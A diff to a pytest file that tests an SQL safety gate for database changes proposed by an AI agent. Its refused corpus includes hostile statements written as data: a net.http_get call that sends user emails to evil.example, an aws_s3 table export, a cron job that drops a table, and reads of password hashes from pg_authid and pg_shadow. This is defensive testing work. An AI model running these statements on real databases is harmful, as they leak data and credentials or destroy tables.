@@ -1,22 +1,47 @@
-"""The SQL safety gate: a corpus of dangerous statements (all refused) and legitimate ones."""
+"""The SQL safety gate: a corpus of dangerous statements (all refused) and legitimate ones.
+
+The structural checks are pure; the names only a catalog can judge (functions, operators,
+casts, relations, what a proposal creates, the columns a copy names) are judged against a
+real fork of the demo database holding a hostile catalog (`tests/data/hostile_catalog.sql`).
+"""
 
 from __future__ import annotations
 
+import functools
+from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
 
 import pglast
+import psycopg
 import pytest
+import trio
 
+from afs.catalog import CATALOG_SQL, catalog_params, facts_from_rows
+from afs.db import connect_sync
 from afs.errors import InputError, UnsafeSqlError
-from afs.models import EstimatedImpact, OptimizationProposal, RiskLevel, ValidationResult
+from afs.forks.provider import ForkInfo, LocalForkProvider
+from afs.models import (
+    EstimatedImpact,
+    OptimizationProposal,
+    RiskLevel,
+    UnsafeStatement,
+    ValidationResult,
+)
 from afs.safety import (
+    References,
     check_query,
     check_settings,
     denied_function,
+    judge_references,
+    proposal_references,
+    query_references,
     split_statements,
     validate_candidate,
     validate_proposal,
 )
+from afs.sandbox.server import SandboxServer
 
 
 # -- dangerous proposals -----------------------------------------------------------------------
@@ -226,6 +251,45 @@ DANGEROUS: list[Bad] = [
         (*PARTITION_PREFIX[:2], "INSERT INTO orders_p_2024 SELECT * FROM orders", "DROP TABLE orders_p",
          "DROP TABLE orders"),
         "table being replaced", "partitioning"),
+    # recipes that lose data without dropping what they copied (issue 9, item 4)
+    Bad("filtered-copy-renamed-into-place",
+        ("CREATE TABLE n (LIKE orders) PARTITION BY RANGE (created_at)",
+         "CREATE TABLE n_all PARTITION OF n DEFAULT",
+         "INSERT INTO n SELECT * FROM orders WHERE status = 'paid'",
+         "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE n RENAME TO orders"),
+        "does not hold all of its rows", "partitioning"),
+    Bad("drop-the-only-copy-after-replacing",
+        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders",
+         "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE n RENAME TO orders", "DROP TABLE orders_old",
+         "DROP TABLE orders"),
+        "only copy of the rows of orders", "partitioning"),
+    Bad("drop-the-copy-after-the-original",
+        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders", "DROP TABLE orders",
+         "DROP TABLE n"),
+        "only copy of the rows of orders", "partitioning"),
+    Bad("temporary-table-by-schema", ("CREATE TABLE pg_temp.orders (LIKE public.orders)",), "pg_temp",
+        "partitioning"),
+    Bad("temporary-table-mixed-case-schema", ('CREATE TABLE "PG_TEMP".orders (LIKE public.orders)',),
+        "system schema", "partitioning"),
+    Bad("index-on-a-temporary-table", ("CREATE INDEX i ON pg_temp_3.orders (id)",), "system schema"),
+    Bad("new-table-under-a-freed-name-without-rows",
+        ("ALTER TABLE orders RENAME TO orders_old",
+         "CREATE TABLE orders (LIKE orders_old) PARTITION BY RANGE (created_at)",
+         "CREATE TABLE orders_all PARTITION OF orders DEFAULT"),
+        "does not hold all of its rows", "partitioning", culprit=1),
+    Bad("star-into-a-column-list-then-drop",
+        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n (id) SELECT * FROM orders", "DROP TABLE orders"),
+        "table being replaced", "partitioning"),
+    Bad("swapped-columns-then-drop",
+        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n (id, status) SELECT status, id FROM orders",
+         "DROP TABLE orders"),
+        "table being replaced", "partitioning"),
+    Bad("catalog-read-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM pg_catalog.pg_authid",),
+        "system schema", "materialized_view"),
+    Bad("information-schema-in-rewrite-like-mv",
+        ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM Information_Schema.tables",), "system schema",
+        "materialized_view"),
+    Bad("function-in-pg-temp", ("CREATE INDEX i ON t ((pg_temp.f(a)))",), "not a built-in function"),
     Bad("drop-parent-of-attached-existing-table",
         ("CREATE TABLE p (LIKE customers) PARTITION BY HASH (id)",
          "ALTER TABLE p ATTACH PARTITION customers FOR VALUES WITH (MODULUS 1, REMAINDER 0)", "DROP TABLE p"),
@@ -337,6 +401,7 @@ class Good:
 
 
 NO_CONCURRENTLY = "without CONCURRENTLY"
+ORDER_COLUMNS = "id, user_id, status, total_amount, shipping_country, created_at, updated_at"  # the demo's
 
 LEGITIMATE: list[Good] = [
     Good("plain-index", ("CREATE INDEX idx_orders_customer ON orders (customer_id)",), "low",
@@ -437,11 +502,11 @@ LEGITIMATE: list[Good] = [
          "high", ("DROP INDEX IF EXISTS orders_created",), "partitioning", 0.2, warning="cannot be undone"),
     Good("partitioning-rename-first",
          ("ALTER TABLE public.events RENAME TO events_old",
-          "CREATE TABLE events (id bigint NOT NULL, kind text, at timestamptz NOT NULL) "
-          "PARTITION BY LIST (kind)",
+          "CREATE TABLE events (LIKE events_old) PARTITION BY LIST (kind)",
           "CREATE TABLE events_click PARTITION OF events FOR VALUES IN ('click')",
           "CREATE TABLE events_other PARTITION OF events DEFAULT",
-          "INSERT INTO events (id, kind, at) SELECT id, kind, at FROM events_old",
+          "INSERT INTO events (id, user_id, kind, payload, created_at) "
+          "SELECT id, user_id, kind, payload, created_at FROM events_old",
           "DROP TABLE events_old"),
          "high", (), "partitioning", 0.2),
     Good("partitioning-attach",
@@ -470,7 +535,8 @@ LEGITIMATE: list[Good] = [
     Good("partitioning-copies-column-by-column-and-drops",
          ("CREATE TABLE n (LIKE orders) PARTITION BY RANGE (created_at)",
           "CREATE TABLE n_all PARTITION OF n DEFAULT",
-          "INSERT INTO n (id, created_at) SELECT o.id, created_at FROM public.orders AS o",
+          f"INSERT INTO n ({ORDER_COLUMNS}) SELECT o.id, {ORDER_COLUMNS.removeprefix('id, ')} "
+          "FROM public.orders AS o",
           "ALTER TABLE orders RENAME TO orders_old",
           "ALTER TABLE n RENAME TO orders",
           "DROP TABLE public.orders_old"),
@@ -674,3 +740,307 @@ def test_a_settings_only_proposal_validates_without_commands() -> None:
     refused = validate_candidate(proposal((("fsync", "off"),)))
     assert not refused.is_valid and "work_mem" in refused.rejected[0].reason
     assert not validate_candidate(proposal(())).is_valid  # nothing at all
+
+
+# -- what only the catalog can judge: a real fork of the demo database -----------------------------
+# The fork holds what a user's database may hold: functions and aggregates of its own (one falsely
+# marked IMMUTABLE, one SECURITY DEFINER, one overloading a built-in name), an operator, a cast and
+# a domain backed by such functions, extensions (trusted ones and others), schemas named like
+# well-known extensions (aws_s3, cron, net), a foreign table, and an index, statistics and a view
+# of the user's own. Names that only look dangerous (a table http_requests with columns http_x,
+# lo_x, nextval) must not be refused.
+FORK_SETUP = (Path(__file__).parent / "data" / "hostile_catalog.sql").read_text()
+
+
+@pytest.fixture(scope="module")
+def hostile_fork(sandbox: SandboxServer) -> Iterator[ForkInfo]:
+    """A fork of the demo database holding `FORK_SETUP` (made by the superuser); removed after."""
+    provider = LocalForkProvider(sandbox.dsn())
+    fork = trio.run(functools.partial(provider.fork, "afs_demo", ttl_seconds=900))
+    try:
+        with connect_sync(sandbox.dsn(fork.name)) as admin:
+            admin.execute(FORK_SETUP)
+        yield fork
+    finally:
+        trio.run(provider.delete, fork.name)
+
+
+@pytest.fixture(scope="module")
+def fork_conn(hostile_fork: ForkInfo) -> Iterator[psycopg.Connection[Any]]:
+    """A connection as the fork's own role, as an agent has."""
+    with connect_sync(hostile_fork.dsn) as conn:
+        yield conn
+
+
+def judged(conn: psycopg.Connection[Any], refs: References) -> tuple[UnsafeStatement, ...]:
+    """`judge_references` on the facts of the real catalog (the SQL that `catalog_facts` runs)."""
+    rows = conn.execute(CATALOG_SQL, catalog_params(refs)).fetchall() if refs.refs else []
+    return judge_references(refs, facts_from_rows(rows))
+
+
+@dataclass(frozen=True)
+class Case:
+    """A statement judged as the workflow judges it: structure first, then the fork's catalog.
+
+    `kind` is a proposal type, "query" (the query a user asks to optimize) or "rewrite" (`sql`
+    holds one query, proposed as the rewrite of a query_rewrite proposal).
+    """
+
+    id: str
+    sql: tuple[str, ...]
+    reason: str = ""  # for a refused one: a fragment of the reason
+    kind: str = "index"
+
+
+def refusals(conn: psycopg.Connection[Any], case: Case) -> tuple[UnsafeStatement, ...]:
+    """What the gate refuses of `case`, as agents.py and optimize.py apply it."""
+    if case.kind == "query":
+        (query,) = case.sql
+        try:
+            text = check_query(query)
+        except UnsafeSqlError as exc:
+            return (UnsafeStatement(query, exc.reason),)
+        return judged(conn, query_references(text))
+    commands, rewrite = (case.sql, None) if case.kind != "rewrite" else ((), case.sql[0])
+    ptype: Any = "query_rewrite" if rewrite else case.kind  # a plain string: the corpus names types
+    p = OptimizationProposal("gemini25pro", ptype, commands, (), "test", EstimatedImpact(50, 0, "low", "low"),
+                             rewritten_query=rewrite)
+    validation = validate_candidate(p)
+    if not validation.is_valid:
+        return validation.rejected
+    if rewrite is not None:
+        try:
+            check_query(rewrite)
+        except UnsafeSqlError as exc:
+            return (UnsafeStatement(rewrite, exc.reason),)
+    return judged(conn, proposal_references(p))
+
+
+MV = "materialized_view"
+PART = "partitioning"
+CATALOG_DANGEROUS: list[Case] = [
+    # functions defined in the database, wherever they are called
+    Case("user-function-in-index", ("CREATE INDEX x1 ON orders ((public.fake_pure(id)))",),
+         "defined in the database"),
+    Case("unqualified-user-function-in-index", ("CREATE INDEX x1 ON orders ((fake_pure(id)))",),
+         "not built in"),
+    Case("user-function-in-partial-index", ("CREATE INDEX x1 ON orders (id) WHERE fake_pure(id) > 0",),
+         "public.fake_pure()"),
+    Case("user-function-in-statistics", ("CREATE STATISTICS x1 ON (fake_pure(id)), status FROM orders",),
+         "not built in", "statistics"),
+    Case("user-function-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT evil(id) FROM orders",),
+         "not built in", MV),
+    Case("user-function-in-mv-subquery",
+         ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM orders WHERE id IN (SELECT evil(1))",), "evil", MV),
+    Case("user-aggregate-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT evil_sum(id) FROM orders",),
+         "public.evil_sum()", MV),
+    Case("security-definer-in-index", ("CREATE INDEX x1 ON orders ((owner_rights(id)))",),
+         "SECURITY DEFINER"),
+    Case("shadowing-overload-in-index", ("CREATE INDEX x1 ON orders ((upper(status::varchar)))",),
+         "public.upper()"),
+    Case("user-function-in-rewrite", ("SELECT fake_pure(id) FROM orders WHERE status = 'paid'",),
+         "not built in", "rewrite"),
+    Case("user-function-in-query", ("SELECT evil(id) FROM orders",), "not built in", "query"),
+    Case("user-function-in-query-order-by", ("SELECT id FROM orders ORDER BY fake_pure(id) LIMIT 3",),
+         "fake_pure", "query"),
+    Case("user-default-in-partitioning",
+         ("CREATE TABLE x1 (id bigint DEFAULT evil(1), status text) PARTITION BY LIST (status)",),
+         "not built in", PART),
+    Case("user-partition-key", ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE ((fake_pure(id)))",),
+         "not built in", PART),
+    Case("user-function-in-copy-filter",
+         ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE (created_at)",
+          "CREATE TABLE x1_all PARTITION OF x1 DEFAULT",
+          "INSERT INTO x1 SELECT * FROM orders WHERE evil(id) = 1"), "not built in", PART),
+    # extensions and schemas named like them
+    Case("heap-force-kill", ("CREATE MATERIALIZED VIEW x1 AS SELECT heap_force_kill('orders'::regclass, "
+                             "ARRAY['(0,1)']::tid[])",), "extension pg_surgery", MV),
+    Case("aws-s3-export", ("CREATE MATERIALIZED VIEW x1 AS SELECT aws_s3.query_export_to_s3("
+                           "'SELECT * FROM users', 'bucket')",), "aws_s3.query_export_to_s3()", MV),
+    Case("cron-schedule-in-predicate",
+         ("CREATE INDEX x1 ON orders (id) WHERE cron.schedule('x', 'DROP TABLE orders') > 0",),
+         "cron.schedule()"),
+    Case("net-http-get-in-rewrite", ("SELECT net.http_get('http://evil.example/' || email) FROM users",),
+         "net.http_get()", "rewrite"),
+    Case("untrusted-extension-function", ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM "
+         "normal_rand(10, 0, 1)",),
+         "extension tablefunc", MV),
+    Case("pgstattuple-in-query", ("SELECT * FROM pgstattuple('orders')",), "extension pgstattuple", "query"),
+    # operators and casts backed by functions of the database
+    Case("user-operator-in-predicate", ("CREATE INDEX x1 ON orders (id) WHERE status === 'paid'",),
+         "operator === runs public.eq_evil()"),
+    Case("qualified-user-operator", ("SELECT id FROM orders WHERE status OPERATOR(public.===) 'paid'",),
+         "public.eq_evil()", "query"),
+    Case("user-operator-in-any-sublink",
+         ("CREATE MATERIALIZED VIEW x1 AS SELECT id FROM orders WHERE status === ANY (SELECT 'a')",),
+         "eq_evil", MV),
+    Case("user-cast", ("CREATE MATERIALIZED VIEW x1 AS SELECT (id::int)::pair AS p FROM orders",),
+         "public.to_pair()", MV),
+    Case("domain-with-user-check", ("CREATE MATERIALIZED VIEW x1 AS SELECT status::checked_text "
+         "FROM orders",),
+         "public.check_fn()", MV),
+    Case("column-of-a-domain-with-user-check",
+         ("CREATE TABLE x1 (id bigint, s checked_text) PARTITION BY RANGE (id)",), "public.check_fn()", PART),
+    Case("order-by-using-a-user-operator", ("SELECT id FROM orders ORDER BY status USING === LIMIT 3",),
+         "eq_evil", "rewrite"),
+    Case("unknown-type", ("CREATE MATERIALIZED VIEW x1 AS SELECT 'x'::no_such_type",), "does not exist", MV),
+    Case("unknown-function", ("CREATE INDEX x1 ON orders ((no_such_function(id)))",), "does not exist"),
+    # side effects and volatility of built-in functions the name lists do not cover
+    Case("volatile-setseed-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT setseed(0.5)",), "VOLATILE", MV),
+    Case("volatile-export-snapshot-in-query", ("SELECT pg_export_snapshot() FROM orders",),
+         "VOLATILE", "query"),
+    Case("volatile-currval-in-rewrite", ("SELECT currval('orders_id_seq') FROM orders",),
+         "VOLATILE", "rewrite"),
+    Case("stable-now-in-index", ("CREATE INDEX x1 ON orders ((now()))",), "not IMMUTABLE"),
+    Case("volatile-random-in-index", ("CREATE INDEX x1 ON orders (id) WHERE random() < 0.5",),
+         "not IMMUTABLE"),
+    # system relations however they are named
+    Case("unqualified-pg-authid-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT rolname, rolpassword "
+                                         "FROM pg_authid",), "pg_catalog.pg_authid", MV),
+    Case("unqualified-catalog-index", ("CREATE INDEX x1 ON pg_class (relname)",), "system relation"),
+    Case("unqualified-catalog-statistics", ("CREATE STATISTICS x1 ON relname, relkind FROM pg_class",),
+         "system relation", "statistics"),
+    Case("unqualified-catalog-in-rewrite", ("SELECT pid, query FROM pg_stat_activity",), "system relation",
+         "rewrite"),
+    Case("unqualified-catalog-in-query", ("SELECT usename, passwd FROM pg_shadow",),
+         "system relation", "query"),
+    Case("analyze-a-catalog", ("ANALYZE pg_statistic",), "system relation"),
+    Case("refresh-a-catalog", ("REFRESH MATERIALIZED VIEW pg_class",), "system relation", MV),
+    Case("view-calling-a-user-function", ("SELECT id FROM evil_view WHERE id = 3",), "view public.evil_view",
+         "query"),
+    Case("view-on-a-view-calling-a-user-function",
+         ("CREATE MATERIALIZED VIEW x1 AS SELECT count(*) FROM outer_view",), "public.evil()", MV),
+    Case("foreign-table-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM remote_orders",),
+         "foreign table",
+         MV),
+    # objects that exist already: nothing new, and the rollback would drop the user's own
+    Case("if-not-exists-on-users-index", ("CREATE INDEX IF NOT EXISTS orders_status_idx ON orders (status)",),
+         "already exists"),
+    Case("if-not-exists-on-primary-key", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_pkey ON "
+         "orders (id)",),
+         "index public.orders_pkey already exists"),
+    Case("index-named-like-a-table", ("CREATE INDEX IF NOT EXISTS users ON orders (status)",),
+         "table public.users"),
+    Case("existing-statistics", ("CREATE STATISTICS IF NOT EXISTS orders_stats ON status, user_id "
+         "FROM orders",),
+         "already exists", "statistics"),
+    Case("existing-mv", ("CREATE MATERIALIZED VIEW IF NOT EXISTS daily AS SELECT 1 AS one",),
+         "already exists",
+         MV),
+    Case("created-table-exists", ("CREATE TABLE products (LIKE orders) PARTITION BY RANGE (created_at)",),
+         "already exists", PART),
+    # recipes that lose columns
+    Case("partial-column-copy-then-drop",
+         ("CREATE TABLE x1 (LIKE orders)", "INSERT INTO x1 (id) SELECT id FROM orders", "DROP TABLE orders"),
+         "copies only some columns of orders", PART),
+    Case("partial-column-copy-renamed-into-place",
+         ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE (created_at)",
+          "CREATE TABLE x1_all PARTITION OF x1 DEFAULT",
+          "INSERT INTO x1 (id, status) SELECT id, status FROM orders",
+          "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE x1 RENAME TO orders"),
+         "not user_id", PART),
+    Case("column-by-column-copy-of-a-renamed-table",
+         ("ALTER TABLE events RENAME TO events_old",
+          "CREATE TABLE events (LIKE events_old) PARTITION BY LIST (kind)",
+          "CREATE TABLE events_all PARTITION OF events DEFAULT",
+          "INSERT INTO events (id, kind, created_at) SELECT id, kind, created_at FROM events_old",
+          "DROP TABLE events_old"),
+         "copies only some columns of events", PART),
+]
+
+CATALOG_LEGITIMATE: list[Case] = [
+    Case("names-that-look-denied", ("CREATE INDEX x2 ON http_requests (http_x, lo_x, nextval)",)),
+    Case("names-that-look-denied-in-mv", ("CREATE MATERIALIZED VIEW x2 AS SELECT http_x, lo_x, nextval "
+                                          "FROM http_requests",), kind=MV),
+    Case("trusted-extension-index", ("CREATE INDEX x2 ON users USING gin (email gin_trgm_ops)",)),
+    Case("trusted-extension-operator", ("SELECT id FROM users WHERE email % 'alice'",), kind="query"),
+    Case("trusted-extension-function", ("SELECT id, similarity(email, 'bob') FROM users ORDER BY 2 "
+         "DESC LIMIT 5",),
+         kind="rewrite"),
+    Case("user-enum-and-domain-casts", ("SELECT id FROM orders WHERE status::mood = 'ok'::mood "
+                                        "AND status::short_text <> ''",), kind="query"),
+    Case("user-operator-backed-by-built-in", ("SELECT id FROM orders WHERE status ~~~ 'paid'",),
+         kind="query"),
+    Case("user-view-in-query", ("SELECT sum(total_amount) FROM paid_orders WHERE user_id = 7",),
+         kind="query"),
+    Case("every-operator-form", ("SELECT id FROM orders WHERE id BETWEEN 1 AND 9 AND status LIKE 'p%' "
+                                 "AND status IN ('paid', 'sent') AND user_id IS DISTINCT FROM 3 "
+                                 "AND -id < 0 AND NULLIF(status, 'x') IS NOT NULL "
+                                 "AND CASE status WHEN 'paid' THEN true ELSE false END "
+                                 "AND user_id = ANY (SELECT id FROM users)",), kind="query"),
+    Case("stable-now-in-mv", ("CREATE MATERIALIZED VIEW x2 AS SELECT id FROM orders "
+                              "WHERE created_at > now() - interval '7 days'",), kind=MV),
+    Case("random-in-query", ("SELECT id FROM orders ORDER BY random() LIMIT 5",), kind="query"),
+    Case("clock-in-rewrite", ("SELECT id, clock_timestamp() FROM orders WHERE user_id = 3",), kind="rewrite"),
+    Case("immutable-overload-in-index", ("CREATE INDEX x2 ON orders "
+                                         "((date_trunc('day', created_at AT TIME ZONE 'UTC')))",)),
+    Case("cte-named-like-a-catalog", ("WITH pg_class AS (SELECT id FROM orders) SELECT count(*) "
+         "FROM pg_class",),
+         kind="query"),
+    Case("refresh-the-users-view", ("REFRESH MATERIALIZED VIEW daily",), kind=MV),
+    Case("new-index-if-not-exists", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS x2 ON orders (user_id)",)),
+    Case("whole-copy-by-columns-and-replace",
+         ("CREATE TABLE x2 (LIKE orders) PARTITION BY RANGE (created_at)",
+          "CREATE TABLE x2_all PARTITION OF x2 DEFAULT",
+          f"INSERT INTO x2 ({ORDER_COLUMNS}) SELECT {ORDER_COLUMNS} FROM orders",
+          "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE x2 RENAME TO orders",
+          "DROP TABLE orders_old"), kind=PART),
+]
+
+# Legitimate for a person, refused by design: a user's own function runs arbitrary code (and may
+# be marked IMMUTABLE or STABLE whatever it does), so only built-in functions and those of
+# TRUSTED_EXTENSIONS run; system catalogs are not the user's data and cannot be indexed.
+REFUSED_BY_DESIGN: list[Case] = [
+    Case("users-function-named-like-large-objects", ("SELECT lo_total(total_amount) FROM orders",),
+         "defined in the database", "query"),
+    Case("index-on-users-immutable-function", ("CREATE INDEX x3 ON orders ((http_status(status)))",),
+         "defined in the database"),
+    Case("query-on-the-catalog", ("SELECT relname FROM pg_class WHERE relkind = 'r'",),
+         "system relation", "query"),
+]
+
+
+@pytest.mark.parametrize("case", CATALOG_DANGEROUS, ids=[c.id for c in CATALOG_DANGEROUS])
+def test_the_catalog_refuses(fork_conn: psycopg.Connection[Any], case: Case) -> None:
+    refused = refusals(fork_conn, case)
+    assert refused, f"accepted: {case.sql}"
+    assert any(case.reason in r.reason for r in refused), refused
+
+
+@pytest.mark.parametrize("case", CATALOG_LEGITIMATE, ids=[c.id for c in CATALOG_LEGITIMATE])
+def test_the_catalog_accepts(fork_conn: psycopg.Connection[Any], case: Case) -> None:
+    assert refusals(fork_conn, case) == ()
+
+
+@pytest.mark.parametrize("case", REFUSED_BY_DESIGN, ids=[c.id for c in REFUSED_BY_DESIGN])
+def test_refused_by_design(fork_conn: psycopg.Connection[Any], case: Case) -> None:
+    refused = refusals(fork_conn, case)
+    assert refused and any(case.reason in r.reason for r in refused), refused
+
+
+def test_the_whole_corpus_against_the_fork(fork_conn: psycopg.Connection[Any]) -> None:
+    """Every dangerous statement refused, every legitimate one accepted, structure and catalog."""
+    dangerous = [Case(c.id, c.commands, c.reason, c.proposal_type) for c in DANGEROUS] + CATALOG_DANGEROUS
+    legitimate = [Case(c.id, c.commands, kind=c.proposal_type) for c in LEGITIMATE] + CATALOG_LEGITIMATE
+    accepted = [c.id for c in dangerous if c.sql and not refusals(fork_conn, c)]
+    refused = {c.id: refusals(fork_conn, c) for c in legitimate}
+    assert accepted == []
+    assert {k: v for k, v in refused.items() if v} == {}
+    assert len(dangerous) >= 150 and len(legitimate) >= 40
+
+
+def test_a_temporary_table_cannot_hide_the_real_one(hostile_fork: ForkInfo,
+                                                    fork_conn: psycopg.Connection[Any]) -> None:
+    """In a session with a temporary `orders`, the unqualified name resolves to pg_temp_N."""
+    with connect_sync(hostile_fork.dsn) as session:
+        session.execute("CREATE TEMP TABLE orders (id bigint)")
+        case = Case("temp-shadow", ("CREATE INDEX x4 ON orders (id)",))
+        refused = refusals(session, case)
+    assert refused and "pg_temp" in refused[0].reason
+    assert refusals(fork_conn, case) == ()  # the same statement in a session without it
+
+
+def test_the_pure_part_passes_what_only_the_catalog_refuses() -> None:
+    """The catalog is needed: structure alone accepts these (the review found 24 such)."""
+    pure_only = [c for c in CATALOG_DANGEROUS if c.kind not in ("query", "rewrite")]
+    assert sum(validate_proposal(c.sql, c.kind).is_valid for c in pure_only) >= 30
